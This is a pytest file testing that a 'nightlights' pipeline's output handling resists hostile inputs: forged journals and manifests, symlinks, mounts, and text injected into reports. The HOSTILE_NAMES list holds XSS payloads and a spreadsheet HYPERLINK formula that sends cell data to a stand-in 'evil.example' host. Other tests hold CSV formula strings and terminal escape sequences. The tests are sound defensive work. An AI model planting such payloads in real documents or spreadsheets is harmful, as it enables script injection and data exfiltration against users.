"""Hostile inputs (issue 24, part A): nothing outside its own folders, no input that eats the machine.

Each case was first reproduced here as a failing test. Output folders hold data, never
instructions: a planted journal or list of outputs, a mount point or a symlink inside
``--out`` never makes the tool delete or move anything outside ``--out`` (and its own
staging folders), nor a file in ``--out`` that it did not write.
"""

from __future__ import annotations

import json
import logging
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

import pipeline.outputs as outputs
from pipeline.errors import NightlightsError
from pipeline.outputs import JOURNAL, MANIFEST, SIBLING_MARK, STAGING_PREFIX, recover, staged

# one pytest-xdist worker makes the session's synthetic run once for every file that publishes it
pytestmark = pytest.mark.xdist_group("pubdata")


def _journal_mode(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(outputs, "_exchange", lambda a, b: False)  # a file system without the swap


def _publish(out: Path, **files: str) -> None:
    with staged(out, owns=("",)) as s:
        for name, text in files.items():
            s.write_text(name.replace("__", "/"), text)


@pytest.fixture
def world(tmp_path: Path) -> dict[str, Path]:
    """A working folder with the user's things beside and inside ``out``."""
    work = tmp_path / "work"
    out = work / "out"
    elsewhere = work / "elsewhere"
    elsewhere.mkdir(parents=True)
    (elsewhere / "precious.txt").write_text("keep me")
    (elsewhere / "retire.txt").write_text("keep me too")
    _publish(out, **{"a.csv": "1"})
    (out / "my_notes.txt").write_text("mine")
    return {"work": work, "out": out, "elsewhere": elsewhere}


# --------------------------------------------------------------------------- a planted journal


@pytest.mark.parametrize("staging", ["elsewhere", "parent", "work"])
def test_planted_journal_never_deletes_outside_out(world, caplog, staging):
    out, elsewhere, work = world["out"], world["elsewhere"], world["work"]
    target = {"elsewhere": elsewhere, "parent": work, "work": work.parent}[staging]
    (out / JOURNAL).write_text(
        json.dumps(
            {
                "staging": str(target),
                "moves": ["precious.txt"],
                "retire": [
                    "../elsewhere/retire.txt",
                    str(elsewhere / "retire.txt"),
                    "my_notes.txt",
                ],
                "manifest": ["a.csv", "my_notes.txt"],
            }
        )
    )
    with caplog.at_level(logging.WARNING):
        recover(out)
    assert (
        elsewhere / "precious.txt"
    ).read_text() == "keep me"  # neither deleted nor moved into out
    assert (elsewhere / "retire.txt").read_text() == "keep me too"
    assert not (out / "precious.txt").exists()
    assert (out / "my_notes.txt").read_text() == "mine" and (out / "a.csv").read_text() == "1"
    assert any(
        "not the journal of an interrupted nightlights publish" in r.getMessage()
        for r in caplog.records
    )
    # and the next publish still works, keeping the user's file
    _publish(out, **{"a.csv": "2"})
    assert (out / "a.csv").read_text() == "2" and (out / "my_notes.txt").read_text() == "mine"
    assert (elsewhere / "precious.txt").exists() and (elsewhere / "retire.txt").exists()


def test_planted_journal_naming_a_staging_like_folder_elsewhere_is_ignored(world, caplog):
    out, elsewhere = world["out"], world["elsewhere"]
    fake = (
        world["work"] / f".other{SIBLING_MARK}1-abcdefgh"
    )  # our naming scheme, but not beside this out
    fake.mkdir()
    (fake / "x.csv").write_text("theirs")
    (out / JOURNAL).write_text(
        json.dumps({"version": 2, "staging": str(fake), "moves": {}, "retire": {}, "manifest": {}})
    )
    with caplog.at_level(logging.WARNING):
        recover(out)
    assert (fake / "x.csv").read_text() == "theirs" and (elsewhere / "precious.txt").exists()


def test_a_real_interrupted_journal_is_still_finished(tmp_path, monkeypatch):
    """The guarantee the trust rules must keep: our own journal is rolled forward."""
    out = tmp_path / "out"
    _publish(out, **{"a.csv": "old", "b.csv": "old", "gone.csv": "old"})
    _journal_mode(monkeypatch)

    class Died(BaseException):
        pass

    def die(label: str) -> None:
        if label == "move b.csv":
            raise Died

    monkeypatch.setattr(outputs, "_step", die)
    with pytest.raises(Died), staged(out, owns=("",)) as s:
        s.write_text("a.csv", "new")
        s.write_text("b.csv", "new")
    monkeypatch.setattr(outputs, "_step", lambda label: None)
    recover(out)
    assert [(out / n).read_text() for n in ("a.csv", "b.csv")] == ["new", "new"]
    assert not (out / "gone.csv").exists() and not (out / JOURNAL).exists()


# --------------------------------------------------------------------------- a planted list of outputs


@pytest.mark.parametrize("mode", ["swap", "journal", "cwd"])
def test_planted_manifest_deletes_nothing_it_did_not_write(world, monkeypatch, mode):
    out, elsewhere = world["out"], world["elsewhere"]
    if mode == "journal":
        _journal_mode(monkeypatch)
    if mode == "cwd":  # cd out && nightlights run --out . : the journal, chosen by the tool itself
        monkeypatch.chdir(out)
        out = Path(".")
    (out / "sub").mkdir()
    (out / "sub" / "draft.txt").write_text("draft")
    (out / "link").symlink_to(elsewhere, target_is_directory=True)
    (out / MANIFEST).write_text(
        json.dumps(
            [
                "a.csv",
                "my_notes.txt",
                str(elsewhere / "precious.txt"),
                "../elsewhere/retire.txt",
                "sub/draft.txt",
                "link/retire.txt",
            ]
        )
    )
    _publish(out, **{"b.csv": "new"})
    forged = {
        "version": 2,
        "files": {
            "my_notes.txt": [1, 4, 1],
            str(elsewhere / "precious.txt"): [1, 7, 1],
            "link/retire.txt": list(
                outputs._stamp(elsewhere / "retire.txt", os.stat(elsewhere).st_dev)
            ),
        },
    }
    (out / MANIFEST).write_text(
        json.dumps(forged)
    )  # the new format, stamps guessed or taken through a link
    _publish(out, **{"b.csv": "newer"})
    assert (out / "my_notes.txt").read_text() == "mine"
    assert (out / "sub" / "draft.txt").read_text() == "draft"
    assert (elsewhere / "precious.txt").read_text() == "keep me"
    assert (elsewhere / "retire.txt").read_text() == "keep me too"
    assert (out / "b.csv").read_text() == "newer"


@pytest.mark.parametrize("mode", ["swap", "journal"])
def test_our_own_outputs_are_still_retired(tmp_path, monkeypatch, mode):
    out = tmp_path / "out"
    if mode == "journal":
        _journal_mode(monkeypatch)
    _publish(out, **{"a.csv": "1", "figures__chart.png": "png"})
    _publish(out, **{"a.csv": "2"})
    assert not (out / "figures" / "chart.png").exists() and (out / "a.csv").read_text() == "2"
    listed = json.loads((out / MANIFEST).read_text())
    assert sorted(listed["files"]) == ["a.csv"]


def test_an_output_changed_by_the_user_is_kept(tmp_path, caplog):
    out = tmp_path / "out"
    _publish(out, **{"a.csv": "1", "b.csv": "1"})
    (out / "b.csv").write_text("edited by hand, longer")
    with caplog.at_level(logging.WARNING):
        _publish(out, **{"a.csv": "2"})
    assert (out / "b.csv").read_text() == "edited by hand, longer"
    assert any("b.csv: kept" in r.getMessage() for r in caplog.records)


# --------------------------------------------------------------------------- mounts and symlinks inside --out


def test_symlinked_folder_inside_out_is_never_followed_for_deletion(tmp_path, monkeypatch):
    out, share = tmp_path / "out", tmp_path / "share"
    share.mkdir()
    (share / "a.csv").write_text("on the share")
    _publish(out, **{"a.csv": "1"})
    (out / "figures").symlink_to(share, target_is_directory=True)
    for mode in ("swap", "journal"):
        if mode == "journal":
            _journal_mode(monkeypatch)
        _publish(out, **{"a.csv": "2"})
        assert (share / "a.csv").read_text() == "on the share"
        assert (out / "figures").is_symlink()


def test_mount_point_inside_out_is_left_in_place(tmp_path, monkeypatch):
    """A folder reported as a mount point is not carried into a new set (its files copied, the
    share emptied with the previous set): the publish goes file by file around it."""
    out = tmp_path / "out"
    _publish(out, **{"a.csv": "1"})
    share = out / "share"
    share.mkdir()
    (share / "data.bin").write_text("on the share")
    inode = share.stat().st_ino
    real = os.path.ismount
    monkeypatch.setattr(
        outputs.os.path, "ismount", lambda p: os.fspath(p) == os.fspath(share) or real(p)
    )
    _publish(out, **{"a.csv": "2"})
    assert (out / "a.csv").read_text() == "2"
    assert share.stat().st_ino == inode  # the very same folder: the mount never moved
    assert (share / "data.bin").read_text() == "on the share"
    assert not [p for p in tmp_path.iterdir() if SIBLING_MARK in p.name]


def test_remove_tree_does_not_cross_mounts_or_symlinks(tmp_path, monkeypatch):
    top = tmp_path / "top"
    (top / "inner").mkdir(parents=True)
    (top / "inner" / "f").write_text("x")
    mounted = top / "mnt"
    mounted.mkdir()
    (mounted / "g").write_text("on the share")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "h").write_text("outside")
    (top / "link").symlink_to(outside, target_is_directory=True)
    real = os.path.ismount
    monkeypatch.setattr(
        outputs.os.path, "ismount", lambda p: os.fspath(p) == os.fspath(mounted) or real(p)
    )
    outputs._remove_tree(top)
    assert (mounted / "g").read_text() == "on the share" and (
        outside / "h"
    ).read_text() == "outside"
    assert not (top / "inner").exists() and not (top / "link").exists()


def _mounts_under(folder: Path) -> list[str]:
    with open("/proc/self/mountinfo", encoding="utf-8") as f:
        points = [line.split()[4] for line in f]
    return [p for p in points if p.startswith(f"{folder}/")]


@pytest.mark.skipif(
    os.geteuid() != 0 or not shutil.which("mount"), reason="a bind mount needs root"
)
def test_real_bind_mount_inside_out_survives(tmp_path):
    out, share = tmp_path / "out", tmp_path / "share"
    share.mkdir()
    (share / "data.bin").write_text("on the share")
    _publish(out, **{"a.csv": "1"})
    (out / "mnt").mkdir()
    if subprocess.run(
        ["mount", "--bind", str(share), str(out / "mnt")], capture_output=True
    ).returncode:
        pytest.skip("mount --bind not permitted here")
    try:
        _publish(out, **{"a.csv": "2"})
        _publish(out, **{"a.csv": "3"})
        assert (out / "a.csv").read_text() == "3"
        assert (share / "data.bin").read_text() == "on the share"
        assert os.path.ismount(out / "mnt") or (out / "mnt" / "data.bin").exists()
    finally:
        for point in _mounts_under(tmp_path):  # wherever it ended up
            subprocess.run(["umount", "-l", point], capture_output=True)
    assert (share / "data.bin").read_text() == "on the share"
    assert not [p for p in tmp_path.iterdir() if SIBLING_MARK in p.name]


# --------------------------------------------------------------------------- leftovers


def test_leftover_lookalike_that_is_a_symlink_is_not_followed(tmp_path):
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "f").write_text("x")
    _publish(out, **{"a.csv": "1"})
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    )
    (out / f"{STAGING_PREFIX}{int(dead.stdout)}-abcdefgh").symlink_to(
        elsewhere, target_is_directory=True
    )
    (tmp_path / f".out{SIBLING_MARK}{int(dead.stdout)}-abcdefgh").symlink_to(
        elsewhere, target_is_directory=True
    )
    recover(out)
    assert (elsewhere / "f").read_text() == "x"


# --------------------------------------------------------------------------- one command per output folder


def test_second_command_on_the_same_out_is_refused(tmp_path):
    out = tmp_path / "out"
    _publish(out, **{"a.csv": "1"})
    with outputs.hold(out):
        child = subprocess.run(
            [
                sys.executable,
                "-c",
                "import sys, pipeline.outputs as o\n"
                "try:\n  o.hold(sys.argv[1]).__enter__()\n"
                "except Exception as e:\n  print(e); sys.exit(3)",
                str(out),
            ],
            capture_output=True,
            text=True,
            env={**os.environ, "PYTHONPATH": str(Path.cwd())},
            cwd=Path(__file__).parents[1],
        )
        assert child.returncode == 3, child.stderr
        assert "another nightlights command is using this output folder" in child.stdout
        with staged(out, owns=("",)) as s:  # the holder itself publishes
            s.write_text("a.csv", "2")
    assert (out / "a.csv").read_text() == "2"
    with outputs.hold(out):  # released
        pass


def test_hold_refuses_in_process_too(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    fd = os.open(out, os.O_RDONLY)
    try:
        import fcntl

        fcntl.flock(fd, fcntl.LOCK_EX)  # another open file description: as another process would
        with (
            pytest.raises(NightlightsError, match="another nightlights command"),
            outputs.hold(out),
        ):
            pass
    finally:
        os.close(fd)


# --------------------------------------------------------------------------- --out targets


def test_run_out_root_is_refused(tmp_path):
    with pytest.raises(NightlightsError, match="file system root"), staged(Path("/")):
        pass


def test_atomic_write_never_replaces_a_device_or_fifo(tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    with (
        pytest.raises(NightlightsError, match="not a regular file"),
        outputs.atomic_write(fifo) as tmp,
    ):
        tmp.write_text("x")
    assert fifo.exists() and not fifo.is_file()
    with (
        pytest.raises(NightlightsError, match="not a regular file"),
        outputs.atomic_write("/dev/null") as tmp,
    ):
        tmp.write_text("x")
    assert Path("/dev/null").is_char_device()


# --------------------------------------------------------------------------- text from inputs is inert

HOSTILE_NAMES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "[click](javascript:alert(3))",
    r"$\undefinedmacro$",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The session's small synthetic run, its site names and claim text replaced by hostile ones."""
    import copy

    from tests.pubdata import published

    results, _ = published(tmp_path_factory)
    r = copy.copy(results)
    names = dict(zip(sorted(results.changes["site_id"]), HOSTILE_NAMES, strict=True))
    r.changes = results.changes.assign(name=results.changes["site_id"].map(names))
    r.sites = results.sites.assign(name=results.sites["site_id"].map(names))
    r.site_months = (
        results.site_months.assign(name=results.site_months["site_id"].map(names))
        if "name" in results.site_months
        else results.site_months
    )
    r.verdict = copy.deepcopy(results.verdict)
    r.verdict["claim"]["text"] = (
        "<script>alert(4)</script> see [here](javascript:alert(5)) <javascript:alert(6)>"
    )
    r.verdict["claim"]["source"] = "<img src=x onerror=alert(7)>"
    return r


def test_report_md_carries_no_markup_from_inputs(hostile):
    from pipeline.publish.report import report_md
    from pipeline.publish.style import Style

    md = report_md(hostile, [], {}, Style())
    for raw in ("<script", "<img", "](javascript:", "<javascript:", "onerror=alert(2)>"):
        assert raw not in md, raw
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md  # still readable as text
    assert "\\[click\\]" in md


def test_report_html_escapes_inputs(hostile):
    from pipeline.publish.report import report_html
    from pipeline.publish.style import Style

    page = report_html(hostile, {}, {}, Style())
    assert (
        "<script" not in page.lower()
        and "<img src=x" not in page
        and "onerror=alert(2)>" not in page
    )
    # no link made from input text: the only link is the report's own, to its Korean twin
    assert re.findall(r"<a [^>]*>", page) == ['<a href="report.ko.html">']
    assert 'href="javascript' not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_charts_show_mathtext_in_names_as_plain_text(hostile, tmp_path):
    """``$\\undefinedmacro$`` as a site name: 'sites validate' accepts it, so charts must draw it as text."""
    from pipeline.publish import write_publication
    from pipeline.publish.style import Style

    with staged(tmp_path / "out") as s:
        written = write_publication(hostile, s, Style(formats=("png", "svg"), dpi=60))
    assert {"verdict", "small_multiples"} <= set(written)
    svg = (tmp_path / "out" / "figures" / "small_multiples.svg").read_text(encoding="utf-8")
    assert "undefinedmacro" in svg


def test_csv_text_cells_cannot_become_formulas(tmp_path):
    import pandas as pd

    from pipeline.outputs import inert_csv, uninert_csv, write_csv_atomic

    assert inert_csv(pd.DataFrame({"a": ["\rx", "x"]}))["a"].tolist() == ["'\rx", "x"]
    df = pd.DataFrame(
        {
            "name": ["=1+2", "+SUM(A1)", "-2+3", "@cmd", "\tx", "ok", "-3.5", None],
            "change": [-1.5, 2.0, -3.0, 0.0, 1.0, 3.0, 1.0, 2.0],
            "n": [-1, 2, 3, 4, 5, 7, 8, 9],
        }
    )
    write_csv_atomic(tmp_path / "t.csv", df)
    back = pd.read_csv(tmp_path / "t.csv", keep_default_na=False)
    assert list(back["name"][:5]) == ["'=1+2", "'+SUM(A1)", "'-2+3", "'@cmd", "'\tx"]
    assert list(back["name"][5:7]) == ["ok", "-3.5"]
    assert (
        back["change"].dtype.kind == "f" and back["change"].iloc[0] == -1.5
    )  # numbers stay numbers
    assert back["n"].dtype.kind == "i" and back["n"].iloc[0] == -1
    assert list(uninert_csv(inert_csv(df))["name"][:7]) == list(df["name"][:7])
    assert (
        inert_csv(df)["change"].equals(df["change"]) and inert_csv(df)["n"].dtype == df["n"].dtype
    )
    with staged(tmp_path / "out") as s:  # the staged writer too
        s.write_csv("t.csv", df, "synthetic")
    assert (
        (tmp_path / "out" / "t.csv")
        .read_text()
        .splitlines()[1]
        .startswith("'=1+2,-1.5,-1,synthetic")
    )


def test_control_characters_from_inputs_never_reach_the_terminal(tmp_path, capsys):
    from pipeline.cli import main

    bad = tmp_path / "evil\x1b[2J\x1b]0;pwned\x07\x9b.geojson"
    bad.write_text("{not json", encoding="utf-8")
    assert main(["sites", "validate", str(bad)]) == 1
    captured = capsys.readouterr()
    assert "\x1b" not in captured.out + captured.err and "\x07" not in captured.out + captured.err
    assert "\x9b" not in captured.out + captured.err
    assert "evil" in captured.out + captured.err
    assert (
        main(
            [
                "run",
                "--source",
                "local",
                "--rasters",
                str(tmp_path / "no\x1b[31mne"),
                "--sites",
                str(bad),
                "--out",
                str(tmp_path / "out"),
                "-q",
            ]
        )
        == 2
    )
    err = capsys.readouterr().err
    assert (
        "\x1b" not in err
        and err.startswith("nightlights: error: ")
        and len(err.strip().splitlines()) == 1
    )


def test_logging_strips_control_characters(caplog):
    from pipeline.cli import _InertFormatter

    record = logging.LogRecord(
        "x", logging.WARNING, __file__, 1, "site %s: \x1b[31mred\x1b[0m\r", ("a\x07b",), None
    )
    assert _InertFormatter("%(message)s").format(record) == "site ab: red"


# --------------------------------------------------------------------------- the command line


def test_extract_out_never_replaces_a_fifo_or_folder(tmp_path, capsys):
    from pipeline.cli import main

    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    for target in (fifo, Path("/"), tmp_path):
        assert (
            main(
                [
                    "extract",
                    "--sites",
                    "none.geojson",
                    "--rasters",
                    str(tmp_path),
                    "--out",
                    str(target),
                ]
            )
            == 2
        )
        err = capsys.readouterr().err
        assert (
            err.startswith(f"nightlights: error: {target}: ") and len(err.strip().splitlines()) == 1
        ), err
    assert fifo.exists() and not fifo.is_file()
    assert "not a regular file" in (
        main(["extract", "--sites", "x", "--rasters", "x", "--out", "/dev/null"]) == 2
        and capsys.readouterr().err
    )
    assert Path("/dev/null").is_char_device()


def test_run_out_root_is_refused_in_one_line(tmp_path, capsys):
    from pipeline.cli import main

    for command in ("run", "compare", "figures"):
        assert main([command, "--out", "/", "-q"]) == 2
        err = capsys.readouterr().err
        assert (
            err
            == "nightlights: error: /: is the file system root; --out takes a folder of its own for the "
            "results, such as outputs/\n"
        )


def test_figures_refuses_while_another_command_holds_the_folder(tmp_path, capsys):
    from pipeline.cli import main

    out = tmp_path / "out"
    out.mkdir()
    (out / "verdict.json").write_text("{}")
    fd = os.open(out, os.O_RDONLY)
    try:
        import fcntl

        fcntl.flock(fd, fcntl.LOCK_EX)  # as a 'run' in another process holds it
        assert main(["figures", "--out", str(out)]) == 2
        err = capsys.readouterr().err
        assert err.startswith(
            f"nightlights: error: {out}: another nightlights command is using this output folder"
        )
    finally:
        os.close(fd)


@pytest.mark.slow
def test_figures_racing_a_run_never_mixes_the_sets(tmp_path):
    """A run holds --out from start to end; figures started meanwhile refuses in one line."""
    from tests.bad_inputs.rasters import write_months, write_sites
    from tests.test_faults import CHILD, clean_env, wait_for

    rasters, sites = (
        write_months(tmp_path / "rasters")[0].parent,
        write_sites(tmp_path / "sites.geojson"),
    )
    out, flag = tmp_path / "out", tmp_path / "flag"
    base = [
        "run",
        "--source",
        "local",
        "--rasters",
        str(rasters),
        "--sites",
        str(sites),
        "--out",
        str(out),
        "--no-sensitivity",
        "-q",
    ]
    env = clean_env(tmp_path)
    first = subprocess.run(
        [sys.executable, "-c", CHILD, "-", *base],
        env=env,
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert first.returncode == 0, first.stderr
    slow = subprocess.Popen(
        [sys.executable, "-c", CHILD, str(flag), *base, "--threshold", "0.5"],
        env=env,
        cwd=tmp_path,
        text=True,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        wait_for(flag, slow)  # the run is writing its set
        figures = subprocess.run(
            [sys.executable, "-c", CHILD, "-", "figures", "--out", str(out), "--format", "png"],
            env=env,
            cwd=tmp_path,
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert figures.returncode == 2
        assert figures.stderr.startswith(
            f"nightlights: error: {out}: another nightlights command is using"
        )
        assert len(figures.stderr.strip().splitlines()) == 1
    finally:
        slow.kill()
        slow.communicate()


def test_figures_reads_only_the_files_verdict_json_names(tmp_path, capsys, monkeypatch):
    """verdict.json naming "/" as a raster folder: no scan of the file system, one error line."""
    from pipeline.cli import main

    out = tmp_path / "out"
    out.mkdir()
    verdict = {
        "inputs": [
            {
                "month": "2024-01",
                "file": "nightlights_2024-01.tif",
                "aux": None,
                "product": "x",
                "folder": "/",
            }
        ],
        "parameters": {},
    }
    (out / "verdict.json").write_text(json.dumps(verdict))
    (out / "site_changes.csv").write_text("site_id\na\n")
    import geopandas as gpd
    from shapely.geometry import Point

    gpd.GeoDataFrame({"site_id": ["a"]}, geometry=[Point(125, 39)], crs="EPSG:4326").to_file(
        out / "sites_classified.geojson"
    )
    (out / "site_months.csv").write_text("site_id,month\na,2024-01\n")
    scanned = []

    def no_scan(self: Path, pattern: str) -> None:
        scanned.append(self)
        raise RuntimeError(f"scanned {self}")  # (before the fix: the whole file system)

    monkeypatch.setattr(Path, "rglob", no_scan)
    assert main(["figures", "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert (
        err.startswith("nightlights: error: /: raster folder named in") and "does not hold" in err
    )
    assert not scanned


def test_usage_errors_strip_control_characters(capsys):
    from pipeline.cli import main

    with pytest.raises(SystemExit) as e:
        main(["run", "--source", "lo\x1b[2Jcal"])
    assert e.value.code == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and err.startswith(
        "nightlights run: error: argument --source: invalid choice"
    )


def test_figures_reads_names_back_as_they_were(hostile, tmp_path, tmp_path_factory):
    """The leading quote is for spreadsheets only: 'figures' gets the names of the run back."""
    from pipeline.results import load_results
    from tests.pubdata import published

    _, done = published(tmp_path_factory)
    out = done.parent / f"copy-{tmp_path.name}"  # beside the run: its rasters are where they were
    shutil.copytree(done, out)
    with staged(out, owns=()) as s:
        s.write_csv("site_changes.csv", hostile.changes, "synthetic")
    assert "'=HYPERLINK(" in (out / "site_changes.csv").read_text(encoding="utf-8")
    assert sorted(load_results(out).changes["name"]) == sorted(HOSTILE_NAMES)
